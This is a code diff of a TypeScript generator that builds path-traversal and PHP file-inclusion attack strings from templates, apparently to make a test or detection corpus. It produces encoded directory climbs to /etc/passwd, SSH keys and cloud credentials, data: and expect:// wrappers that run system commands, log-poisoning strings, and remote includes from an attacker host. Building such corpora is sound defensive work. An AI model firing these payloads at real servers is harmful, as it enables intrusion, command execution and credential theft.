@@ -1,4 +1,3 @@
-import type { Rng } from '#models/rng.ts';
 import {
   altered,
   family,
@@ -74,105 +73,41 @@ function climbing(step: Part, separator: string, file: Part, steps: Part = integ
   };
 }
 
-const dot = [
-  '%2e',
-  '%252e',
-  '%c0%ae',
-  '%c0%2e',
-  '%e0%40%ae',
-  '%c0ae',
-  '0x2e',
-  '%u002e',
-  '%uff0e',
-  '%25c0%25ae',
-  '%f0%80%80%ae',
-  '%e0%80%ae',
-  '%fc%80%80%80%80%ae',
-  '%f8%80%80%80%ae',
-  '%c0%6e',
-  '%c0%5e',
-  '%c0%ee',
-  '%c0%fe',
-  '%%32%65',
-  '%%32%%65',
-  '%25%32%65',
-  '%c0.',
-  '%00.',
-  '\uff0e',
-  '\u2024',
-  '%32%65',
-  '%ae',
-  '\ufffd\ufffd',
-  '\ufffd',
-  '.\u0000',
-  '&#46;',
-  '\\u002e',
-  '\\x2e',
-  '?',
-  '\ufffd.'
-];
-const slash = [
-  '%2f',
-  '%252f',
-  '%c0%af',
-  '%c0%2f',
-  '%e0%80%af',
-  '%c1%9c',
-  '%c0%9v',
-  '%c0%qf',
-  '%c1%8s',
-  '%c1%1c',
-  '%c1%af',
-  '%c1%pc',
-  '0x2f',
-  '0x5c',
-  '%5c',
-  '%255c',
-  '%u2215',
-  '%u2216',
-  '%uefc8',
-  '%uf025',
-  '%uff0f',
-  '%f0%80%80%af',
-  '%f8%80%80%80%af',
-  '%fc%80%80%80%80%af',
-  '%bg%qf',
-  '%c0%5c',
-  '%%35%63',
-  '%%35c',
-  '%25%35%63',
-  '%25c0%25af',
-  '\uff0f',
-  '\u2215',
-  '\u2216',
-  '\ufffd\ufffd',
-  '\ufffd',
-  '&#47;',
-  '\\u002f',
-  '\\x2f',
-  '%af',
-  '\ufffd?',
-  '%fe',
-  '/?'
-];
+/** Encodings of a dot and of a slash that some decoder folds back, by what is odd about them. */
+const DISGUISES = {
+  percent: { dots: ['%2e'], slashes: ['%2f', '%5c'] },
+  'percent-twice': { dots: ['%252e', '%25%32%65', '%%32%65', '%%32%%65', '%32%65'], slashes: ['%252f', '%255c', '%25%35%63', '%%32%66', '%%35%63', '%%35c'] },
+  'sixteen-bits': { dots: ['%u002e', '%uff0e', '%u2024', '\\u002e', '\\x2e'], slashes: ['%u2215', '%u2216', '%uefc8', '%uf025', '%uff0f', '%u002f', '\\u002f', '\\x2f', '%u005c'] },
+  'overlong-two': { dots: ['%c0%ae', '%c0ae', '%25c0%25ae', '%c0%2e'], slashes: ['%c0%af', '%c1%9c', '%c0%2f', '%c0%5c', '%c1%af', '%25c0%25af', '%25c1%259c'] },
+  'overlong-more': { dots: ['%e0%80%ae', '%f0%80%80%ae', '%f8%80%80%80%ae', '%fc%80%80%80%80%ae', '%e0%40%ae'], slashes: ['%e0%80%af', '%f0%80%80%af', '%f8%80%80%80%af', '%fc%80%80%80%80%af', '%e0%40%af'] },
+  'overlong-wrong': { dots: ['%c0%5e', '%c0%ee', '%c0%fe', '%c0%6e', '%c0.'], slashes: ['%c0%9v', '%c0%qf', '%c1%8s', '%c1%1c', '%c1%pc', '%bg%qf', '%af', '%fe'] },
+  hexadecimal: { dots: ['0x2e'], slashes: ['0x2f', '0x5c'] },
+  replaced: { dots: ['\ufffd', '\ufffd\ufffd', '?', '\ufffd.'], slashes: ['\ufffd', '\ufffd\ufffd', '?', '\ufffd?', '\ufffds', '\ufffdv'] },
+  'look-alike': { dots: ['\uff0e', '\u2024', '\u3002', '&#46;'], slashes: ['\uff0f', '\u2215', '\u2216', '\uff3c', '&#47;'] },
+  question: { dots: ['?', '??'], slashes: ['%c0%9v', '%c0%qf', '%c1%8s', '%c1%pc', '%c0%5c', '%c0%af', '%uefc8'] },
+  'null-bytes': { dots: ['.%00', '%00.', '.\u0000'], slashes: ['/', '\\', '%00/', '%2f', '%c0%af'] }
+} as const;
+type Disguise = (typeof DISGUISES)[keyof typeof DISGUISES];
 
-/** Two dots and a slash, each in some encoding a lax decoder folds back. */
-function encodedStep(rng: Rng): string {
-  const oneDot = rng.chance(0.4) ? '.' : rng.pick(dot);
-  const other = rng.chance(0.8) ? oneDot : rng.chance(0.5) ? '.' : rng.pick(dot);
-  return oneDot + other + (rng.chance(0.3) ? rng.pick(['/', '\\']) : rng.pick(slash));
+/** Climbs whose dots, slashes, or both wear a disguise. */
+function disguised(dotted: Disguise | null, slashed: Disguise | null): Write {
+  return (rng) => {
+    const dot = dotted === null ? '.' : rng.pick<string>(dotted.dots);
+    const otherDot = rng.chance(0.85) ? dot : '.';
+    const slash = slashed === null ? rng.pick(['/', '/', '\\']) : rng.pick<string>(slashed.slashes);
+    const file = write(rng, anyFile);
+    const climb = (dot + otherDot + slash).repeat(rng.int(1, 12));
+    return write(rng, start) + climb + (rng.chance(0.6) ? file.replaceAll('/', slash) : file) + write(rng, extension);
+  };
 }
-function encodedClimb(rng: Rng): string {
-  const step = encodedStep(rng);
-  const separator = rng.chance(0.6) ? step.slice(step.length - 3).replace(/^\.+/, '') : '/';
-  const file = write(rng, anyFile);
-  return (
-    write(rng, start) +
-    step.repeat(rng.int(1, 12)) +
-    (rng.chance(0.6) ? file.replaceAll('/', separator) : file) +
-    write(rng, extension)
-  );
-}
+export const disguisedTemplates = Object.entries(DISGUISES).flatMap(([name, disguise]) =>
+  family('path-traversal/disguised', {
+    [`${name}-both`]: disguised(disguise, disguise),
+    [`${name}-slashes`]: disguised(null, disguise),
+    [`${name}-dots`]: disguised(disguise, null),
+    [`${name}-mixed`]: (rng) => disguised(disguise, rng.pick(Object.values(DISGUISES)))(rng)
+  })
+);
 
 const nestedStep = words(
   '....// ....\\\\ ..././ ...\\.\\ .././ ..../ ....\\/ ..//./ ...// ..//..// .../ .....///// ..;/ ..;\\ ..\\;/ ....;/ ..;a=b/ .;/../ ..\\/ ..//  ..\\\\ .//..// ./../ .\\..\\ ..//./ ..|/ ..+/ .?/ .*/.*/ ...%2f/ ..%00/ ..%0d/ ..%5c/ ..%ff/ ..%01/ ..^/ ..~/ .%5c../ /%5c../ ..%2f./ ..\\./ /../ \\../ \\..\\ //..// \\\\..\\\\ ..../\\ ../\\ ..\\\\\\ ..///'
@@ -205,42 +140,20 @@ export const climbTemplates = family('path-traversal/climb', {
   'nested-many-kinds': text`${start}${repeat(nestedStep, 2, 8)}${anyFile}${extension}`,
   'slash-first': text`${altered(integer(1, 12), (count) => '/..'.repeat(Number(count)))}/${anyFile}${extension}`,
   'backslash-first': text`${altered(integer(1, 12), (count) => '\\..'.repeat(Number(count)))}\\${altered(anyFile, (file) => file.replaceAll('/', '\\'))}${extension}`,
-  'encoded-step': encodedClimb,
-  'percent-slash': climbing(
-    words('..%2f ..%252f %2e%2e/ %2e%2e%2f .%2e/ ..%5c ..%255c %2e%2e%5c %2e./ %252e%252e%252f'),
-    '%2f',
-    anyFile
-  ),
-  'overlong-slash': climbing(
-    words(
-      '..%c0%af ..%c1%9c ..%e0%80%af ..%c0%9v ..%c0%qf ..%c1%8s ..%c1%1c ..%c1%af ..%bg%qf ..%u2215 ..%u2216 ..%uefc8 ..%uf025'
-    ),
-    '%c0%af',
-    anyFile
-  ),
-  'overlong-dots': climbing(
-    words(
-      '%c0%ae%c0%ae/ %c0%ae%c0%ae%c0%af %c0%2e%c0%2e/ %e0%80%ae%e0%80%ae/ %uff0e%uff0e/ %uff0e%uff0e%u2215 %c0%ae%c0%ae\\ %f0%80%80%ae%f0%80%80%ae/'
-    ),
-    '%c0%af',
-    anyFile
-  ),
-  'decoded-badly': climbing(
-    words(
-      '\ufffd\ufffd/ ..\ufffd\ufffd \ufffd\ufffd\ufffd\ufffd/ ..\ufffd .\ufffd./ \uff0e\uff0e/ \uff0e\uff0e\uff0f ..\u2215 ..\u2216 ..\uff3c \u2025/ \ufe30/ \ufffd.\ufffd./ ..\ufffd? ..\ufffds .?.?'
-    ),
-    '\ufffd',
-    anyFile
-  ),
   'double-dots-only-url': text`/${lowerWord}/..${repeat(oneOf('/..', '%2f..', ';/..', '\\..'), 2, 9)}/${oneOf(anyFile, text`${words('admin manager console internal actuator')}/${lowerWord}`)}`,
   'proxy-confusion': text`/${lowerWord}${oneOf('/..;/', '/;/', '..;/', '/.;/', '/..%2f', '/..%5c', '/%2e%2e/', '/..//', ';/../')}${oneOf(text`${words('admin manager/html console host-manager actuator/env jmx-console server-status')}`, text`..;/${words('manager/html admin actuator/env')}`, applicationFile)}`,
   'after-real-file': text`${lowerWord}.${words('jpg png pdf txt php html')}/${repeat('../', 2, 9)}${anyFile}`,
   'after-parameter': text`${words('file=. page=. doc=. include=. path= /?f=')}${repeat(words('./ ../ ..\\ ./../'), 2, 9)}${anyFile}${extension}`,
   'in-a-name': text`${oneOf(text`${repeat('../', 1, 6)}${lowerWord}.${words('php jsp aspx sh py cgi phtml war exe')}`, text`${repeat('..\\', 1, 6)}${lowerWord}.${words('aspx asp bat exe')}`, text`${repeat('../', 2, 6)}${words('tmp var/www/html home/user/.ssh etc/cron.d')}/${lowerWord}`)}`,
+  'long-prefix': text`${start}${altered(letters(LOWER), (letter, rng) => letter.repeat(rng.int(20, 900)))}${oneOf('/', '\\', '')}${repeat('../', 1, 20)}${anyFile}${extension}`,
+  'long-suffix': text`${repeat('../', 2, 12)}${anyFile}${altered(oneOf('/.', './', '/', '.', 'a', '%20', '?', '\\.'), (piece, rng) => piece.repeat(rng.int(20, 400)))}`,
+  'unusual-count-of-dots': text`${start}${repeat(oneOf('.../', '..../', '...\\', '.\\..\\', '....\\'), 1, 9)}${anyFile}${extension}`,
+  'only-system-file': text`${oneOf('/', '\\', '', './', '../')}${words('etc/passwd etc/shadow boot.ini windows/win.ini windows/system32/drivers/etc/hosts etc/issue winnt/win.ini proc/self/environ etc/group')}${extension}`,
   'archive-entry': text`${lowerWord}/${repeat('../', 2, 10)}${oneOf(text`root/.ssh/authorized_keys`, unixFile, text`var/spool/cron/${lowerWord}`)}`
 });
 
 const absolutePrefix = oneOf('/', '/', '/', '//', '///', '/./', '\\', '\\\\', 'file:///', '/%2e/', '/..');
+const server = text`${words('access error access_log error_log messages wtmp dtmp lastlog my httpd php vsftpd pure-ftpd proftpd nginx shadow passwd syslog auth mysqld user db')}${oneOf('.log', '.conf', '.cnf', '.ini', '', '.pdb', '.log.1', '.0', '.old')}`;
 export const absoluteTemplates = family('path-traversal/absolute', {
   unix: text`${absolutePrefix}${unixFile}${extension}`,
   'unix-extra-slashes': altered(text`/${unixFile}${extension}`, (path, rng) =>
@@ -257,8 +170,11 @@ export const absoluteTemplates = family('path-traversal/absolute', {
   unc: text`\\\\${oneOf(attackerHost, '127.0.0.1', 'localhost', '.', '?')}\\${oneOf('c$\\', 'admin$\\', 'share\\', 'c:\\', 'UNC\\')}${altered(windowsFile, (path) => path.replaceAll('/', '\\'))}`,
   'file-url': text`file:${words('/// // / ///// ////')}${oneOf(unixFile, text`c:/${windowsFile}`, text`localhost/${unixFile}`, text`c|/${windowsFile}`, text`${attackerHost}/${lowerWord}`)}`,
   'application-absolute': text`/${maybe(text`${lowerWord}/`)}${oneOf('WEB-INF/web.xml', 'META-INF/context.xml', 'WEB-INF/classes/db.properties', text`..;/WEB-INF/web.xml`, text`static/..%2f${applicationFile}`, text`.//WEB-INF/web.xml`, text`%57EB-INF/web.xml`)}${extension}`,
+  'server-logs': text`/${oneOf('var/log/', 'var/adm/', 'usr/local/', 'opt/', 'etc/', 'var/www/', 'usr/', 'home/', 'var/lib/', 'var/', 'logs/')}${oneOf(text`${words('apache apache2 apache-ssl httpd nginx lighttpd mysql postgresql tomcat pure-ftpd proftpd vsftpd exim squid samba php lampp cpanel lp sendmail')}/${words('logs log conf etc errors data')}/${server}`, text`${words('apache apache2 apache-ssl httpd nginx mysql php exim pure-ftpd')}/${server}`, server)}${extension}`,
+  'server-folders': altered(text`${oneOf('c:/', 'd:/', '/')}${words('xampp wamp inetpub winnt windows apache php mysql program␣files')}/${words('logs conf bin data webdav temp apache/logs mysql/data system32 repair')}/${oneOf(server, words('webdav.txt access_log sam php.ini my.ini httpd.conf hosts system.ini'))}`, (path, rng) => (rng.chance(0.6) ? path.replaceAll('/', '\\') : path)),
+  'system-tools': text`/${words('usr/bin usr/sbin bin sbin usr/lib usr/lib/security usr/local/bin')}/${words('id passwd crontab mkuser.default sudo su ssh chsh mount iptables')}${extension}`,
   wildcards: text`/${words('e?c/p?sswd e*c/p*d ???/passwd etc/pass?? e[t]c/p[a]sswd etc/{passwd,shadow} etc//passwd etc/./passwd //etc//passwd etc/passwd?a=b etc/passwd/. private/etc/passwd etc/passwd&')}${maybe(text`${words('# ; & ? ')}${lowerWord}`)}`,
-  'home-tilde': text`~${maybe(inventedWord)}/.${words('ssh/id_rsa bash_history aws/credentials netrc profile')}`
+  'home-tilde': text`${oneOf('/', '//', '../')}~${mostly([words('root admin www-data'), 2], [inventedWord, 1])}/.${words('ssh/id_rsa bash_history aws/credentials netrc mysql_history')}${extension}`
 });
 
 const filter = oneOf(
@@ -273,20 +189,19 @@ const filter = oneOf(
   'write=convert.base64-decode',
   text`${repeat(text`convert.iconv.${words('UTF8 L1 CP1256 ISO2022KR UTF16 IBM869 CSIBM1161 SE2 8859_3 UCS2 L4')}.${words('UTF8 UTF7 CSISO2022KR UCS-2 UTF16LE MS936 UTF-32 SJIS ISO-IR-156 UTF-16BE')}`, 2, 12, '|')}|convert.base64-decode`
 );
+const dataType = oneOf('//text/plain', 'text/plain', '//text/html', 'text/html', '', 'application/x-httpd-php', '//text/plain;charset=utf-8');
+const phpCall = text`${words('system eval passthru exec phpinfo shell_exec assert print')}(${oneOf('', "'id'", '$_GET[0]', "$_REQUEST['c']", "$_GET['cmd']", "'ls -la'")});`;
 export const wrapperTemplates = family('path-traversal/wrapper', {
   'php-filter': text`${words('php PHP pHp Php')}://filter/${filter}/resource=${wrapped}${extension}`,
+  'filter-names': repeat(filter, 1, 6, oneOf('|', '/', '|')),
   'php-filter-chain': text`php://filter/${repeat(filter, 2, 5, '|')}/resource=${oneOf(wrapped, 'php://temp', 'data://,a')}`,
   'php-filter-fragment': text`${maybe('php://filter/')}${words('read write')}=${filter}/resource=${wrapped}`,
   'php-input': text`${words('php PHP')}://${words('input stdin fd/0 memory temp output')}${maybe(oneOf('%00', '?', text`&cmd=${words('id ls whoami')}`))}`,
-  data: text`data:${oneOf('//text/plain', 'text/plain', '//text/html', '', 'application/x-httpd-php')}${oneOf(
-    text`,<?php ${words('phpinfo system eval passthru exec')}(${oneOf('', "'id'", '$_GET[0]', "$_REQUEST['c']")});${maybe(' ?>')}`,
-    altered(
-      text`<?php ${words('system phpinfo eval passthru')}(${oneOf("$_GET['cmd']", "'id'", '')}); ?>`,
-      (php) => `;base64,${base64(php)}`
-    ),
-    text`,<?=\`${words('id ls whoami')}\`?>`
-  )}`,
-  expect: text`expect://${words('id ls whoami uname pwd')}${maybe(text`%20${words('-la /etc')}`)}`,
+  data: text`data:${dataType},${oneOf('', ' ')}<?${oneOf('php ', '=', 'php\n')}${phpCall}${maybe(' ?>')}`,
+  'data-base64': text`data:${dataType};base64,${altered(text`<?php ${phpCall} ?>`, base64)}`,
+  'data-short-tag': text`data:${dataType},<?=\`${words('id ls whoami pwd uname')}${maybe(' -la')}\`?>`,
+  'data-in-parameter': text`${words('file page include template')}=data:${dataType},<?php ${phpCall}?>`,
+  expect: text`${oneOf('', 'php:', '/')}expect://${words('id ls whoami uname pwd cat ps env hostname ifconfig')}${maybe(text`${oneOf('%20', '+', ' ', '${IFS}')}${words('-la /etc -a aux /etc/passwd')}`)}${maybe(words('%00 ? #'), 0.2)}`,
   archives: text`${words('zip phar rar compress.zlib compress.bzip2 glob ogg ssh2.exec jar')}://${maybe('../')}${oneOf(text`${lowerWord}.${words('jpg zip phar png gz')}${maybe(text`${words('# %23 / !/')}${lowerWord}.php`)}`, text`/${unixFile}`, text`${attackerUrl}!/${lowerWord}`, text`/var/www/uploads/${lowerWord}.jpg/${lowerWord}.php`)}`,
   'log-poisoning': text`${repeat('../', 0, 9)}${oneOf('/', '')}${oneOf('var/log/apache2/access.log', 'var/log/nginx/access.log', 'proc/self/environ', 'var/log/auth.log', 'proc/self/fd/2', 'var/lib/php/sessions/sess_x', 'var/log/httpd/error_log', 'var/mail/www-data')}&${words('cmd c exec x')}=${words('id ls whoami pwd')}`,
   'remote-include': text`${oneOf('http://', 'https://', 'ftp://', 'HTTP://', 'hTtP://', '\\\\', '//')}${attackerHost}/${lowerWord}.${words('txt php gif jpg log inc')}${oneOf('?', '%00', '??', '?cmd=id', '%3f', '#', '?/', '?&', '\u0000', text`?${words('cmd c')}=${words('ls id pwd')}`)}`,
